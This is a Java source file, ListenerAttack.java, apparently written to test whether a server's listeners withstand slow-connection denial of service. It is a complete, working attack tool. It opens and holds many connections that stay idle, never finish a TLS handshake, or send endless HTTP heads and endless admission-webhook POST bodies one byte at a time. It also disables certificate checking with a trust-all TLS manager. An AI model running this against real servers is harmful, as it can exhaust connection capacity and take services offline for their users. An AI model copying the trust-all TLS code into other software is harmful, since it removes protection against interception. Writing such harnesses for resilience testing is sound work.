import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * A tenant that tries to hold a server's listeners: for SECONDS, N connections of each given kind
 * to each HOST:PORT, each one held as long as the server lets it and opened again a second after
 * the server closes it.
 *
 * <pre>
 *   java ListenerAttack.java SECONDS N HOST:PORT:KIND ...
 * </pre>
 *
 * Kinds: {@code idle} (connects, sends nothing), {@code tls-hello} (the first bytes of a TLS
 * record, never the rest: a handshake that never ends), {@code http-head} (an HTTP request head
 * that never ends, one byte every 2 s), {@code tls-body} (a full TLS handshake, then an admission
 * POST whose body never ends, one byte every 2 s). Every 10 s, per kind: connections opened,
 * connect failures, connections closed by the server within 2 s (refused at once), connections
 * held 2 s or more now (held) and at most (maxHeld).
 */
public class ListenerAttack {
  static final class Counts {
    final AtomicLong opened = new AtomicLong(), failed = new AtomicLong(), closedAtOnce = new AtomicLong();
    final AtomicInteger held = new AtomicInteger(), maxHeld = new AtomicInteger();

    String line() {
      return "opened=%d failed=%d closedAtOnce=%d held=%d maxHeld=%d"
          .formatted(opened.get(), failed.get(), closedAtOnce.get(), held.get(), maxHeld.get());
    }
  }

  record Target(String host, int port, String kind) {}

  static volatile long end;

  public static void main(String[] args) throws Exception {
    long seconds = Long.parseLong(args[0]);
    int n = Integer.parseInt(args[1]);
    long t0 = System.nanoTime();
    end = t0 + seconds * 1_000_000_000L;
    List<Target> targets = new ArrayList<>();
    for (int i = 2; i < args.length; i++) {
      String[] p = args[i].split(":");
      targets.add(new Target(p[0], Integer.parseInt(p[1]), p[2]));
    }
    java.util.Map<String, Counts> byKind = new java.util.TreeMap<>();
    for (Target t : targets) {
      Counts c = byKind.computeIfAbsent(t.kind(), k -> new Counts());
      for (int i = 0; i < n; i++) Thread.ofVirtual().start(() -> holdLoop(t, c));
    }
    System.out.printf("attacking %d targets with %d connections each for %d s%n", targets.size(), n, seconds);
    while (System.nanoTime() < end) {
      Thread.sleep(10_000);
      long t = (System.nanoTime() - t0) / 1_000_000_000L;
      byKind.forEach((k, c) -> System.out.printf("attack t=%ds kind=%s %s%n", t, k, c.line()));
    }
    System.exit(0);
  }

  static void holdLoop(Target t, Counts c) {
    while (System.nanoTime() < end) {
      boolean connected = false, isHeld = false;
      try (Socket s = new Socket()) {
        s.connect(new InetSocketAddress(t.host(), t.port()), 3000);
        connected = true;
        c.opened.incrementAndGet();
        s.setSoTimeout(2000);
        Socket io = start(t, s);
        OutputStream out = io.getOutputStream();
        InputStream in = io.getInputStream();
        byte[] buf = new byte[4096];
        long nextByte = System.nanoTime() + 2_000_000_000L;
        while (System.nanoTime() < end) {
          try {
            if (in.read(buf) < 0) break;
          } catch (SocketTimeoutException e) {
            if (!isHeld) {
              isHeld = true;
              c.maxHeld.accumulateAndGet(c.held.incrementAndGet(), Math::max);
            }
          }
          if (t.kind().equals("http-head") || t.kind().equals("tls-body")) {
            if (System.nanoTime() >= nextByte) {
              out.write('a'); // never a line end: the head (or body) goes on forever
              out.flush();
              nextByte = System.nanoTime() + 2_000_000_000L;
            }
          }
        }
      } catch (IOException e) {
        if (!connected) c.failed.incrementAndGet();
      } finally {
        if (isHeld) c.held.decrementAndGet();
        else if (connected) c.closedAtOnce.incrementAndGet();
      }
      try {
        Thread.sleep(1000);
      } catch (InterruptedException e) {
        return;
      }
    }
  }

  /** What the kind sends first; the socket to go on with (TLS for tls-body). */
  static Socket start(Target t, Socket s) throws IOException {
    switch (t.kind()) {
      case "idle":
        return s;
      case "tls-hello": {
        // a handshake record header announcing 512 bytes, and 3 of them
        s.getOutputStream().write(new byte[] {0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01});
        s.getOutputStream().flush();
        return s;
      }
      case "http-head": {
        s.getOutputStream().write("GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII));
        s.getOutputStream().flush();
        return s;
      }
      case "tls-body": {
        SSLSocket tls = (SSLSocket) trustAll().getSocketFactory().createSocket(s, t.host(), t.port(), true);
        tls.setSoTimeout(5000);
        tls.startHandshake();
        tls.setSoTimeout(2000);
        tls.getOutputStream().write(("POST /mutate-pods HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                + "Content-Length: 100000\r\n\r\n{\"kind\":\"AdmissionReview\",")
            .getBytes(StandardCharsets.US_ASCII));
        tls.getOutputStream().flush();
        return tls;
      }
      default:
        throw new IllegalArgumentException("unknown kind " + t.kind());
    }
  }

  static SSLContext trustAll() {
    try {
      SSLContext ctx = SSLContext.getInstance("TLS");
      ctx.init(null, new TrustManager[] {new X509TrustManager() {
        public void checkClientTrusted(X509Certificate[] c, String a) {}
        public void checkServerTrusted(X509Certificate[] c, String a) {}
        public X509Certificate[] getAcceptedIssuers() { return new X509Certificate[0]; }
      }}, null);
      return ctx;
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }
}
